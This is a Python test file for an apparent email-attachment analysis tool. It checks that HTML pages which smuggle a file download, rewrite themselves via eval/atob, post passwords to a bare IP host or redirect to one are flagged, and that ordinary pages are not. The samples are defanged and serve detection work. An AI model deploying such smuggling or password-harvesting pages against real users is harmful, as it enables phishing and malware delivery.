"""Web pages that come as files: what their scripts do is evidence; ordinary pages are not accused of it."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from malafide.case import Case
from malafide.intake import read_bytes
from malafide.intake.documents import read_document
from malafide.intake.page_scripts import scripts_of
from malafide.panel.hearing import examine
from malafide.tools import tools


def mail(page: str, name: str = "voice.html") -> Case:
    packed = base64.encodebytes(page.encode())
    head = b"From: Ann <ann@example.com>\nTo: bob@example.org\nSubject: papers\nMIME-Version: 1.0\n"
    kind = b'Content-Type: text/html; name="%s"\nContent-Disposition: attachment; filename="%s"\n'
    return read_bytes(
        head + kind % (name.encode(), name.encode()) + b"Content-Transfer-Encoding: base64\n\n" + packed
    )


def kinds(case: Case) -> set[str]:
    seen = examine(case, tools)
    assert not seen.failures and all(e.holds_in(case) for e in seen.evidence)
    return {e.kind for e in seen.evidence}


SMUGGLED = (
    "<html><script>var d = '"
    + "QUJD" * 5_000
    + "';var b = new Blob([Uint8Array.from(atob(d), c=>c.charCodeAt(0))]);"
    "var a = document.createElement('a');a.href = URL.createObjectURL(b);a.download='bill.iso';a.click();</script>"
)


@pytest.mark.parametrize(
    ("page", "kind"),
    [
        (SMUGGLED, "attachments.page-builds-file"),
        ("<body onload=\"document.write(unescape('%3Cform%3E'))\">", "attachments.page-writes-itself"),
        ("<script>eval(atob('YWxlcnQoMSk='))</script>", "attachments.page-writes-itself"),
        (
            "<form action='http://192.0.2.9/x'><input type=password name=p></form>",
            "attachments.page-asks-password",
        ),
    ],
)
def test_what_a_page_does(page: str, kind: str) -> None:
    assert kind in kinds(mail(page))


def test_a_page_given_by_itself_is_a_document() -> None:
    case = read_document(SMUGGLED.encode())
    assert case.kind == "document" and case.document and case.document.format == "html"
    assert "attachments.page-builds-file" in kinds(case)
    plain = read_document(
        b"<html><h1>Minutes</h1><p>We met on <a href='http://example.com/a'>Tuesday</a>.</p></html>"
    )
    assert (
        plain.part("body").text == "Minutes\n\nWe met on Tuesday."
        and plain.mail
        and len(plain.mail.links) == 1
    )
    assert not {k for k in kinds(plain) if k.startswith("attachments.")}


def test_where_a_page_goes_by_itself_is_a_link() -> None:
    case = mail("<script>window.location.href = 'http://192.0.2.9/login';</script>")
    assert case.mail and [(x.target, x.carrier) for x in case.mail.links] == [
        ("http://192.0.2.9/login", "refresh")
    ]
    assert "links.ip-host" in kinds(case)


@pytest.mark.parametrize(
    "page",
    [
        "<p>Trip report</p><script>document.getElementById('x').hidden = true;</script>",
        "<h1>Minutes</h1><p>We met on Tuesday.</p>",
        "<script>var b = new Blob(['a']); plot(b);</script><p>chart</p>",
        "<script>document.write(new Date().getFullYear())</script>",
    ],
)
def test_ordinary_pages(page: str) -> None:
    assert not kinds(mail(page)) & {"attachments.page-builds-file", "attachments.page-writes-itself"}


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=400))
def test_any_source(text: str) -> None:
    kept, leads = scripts_of(f"<script>{text}</script><p onload='{text}'>{text}<script>atob({text}")
    assert all(isinstance(words, str) for words in [*kept, *leads])
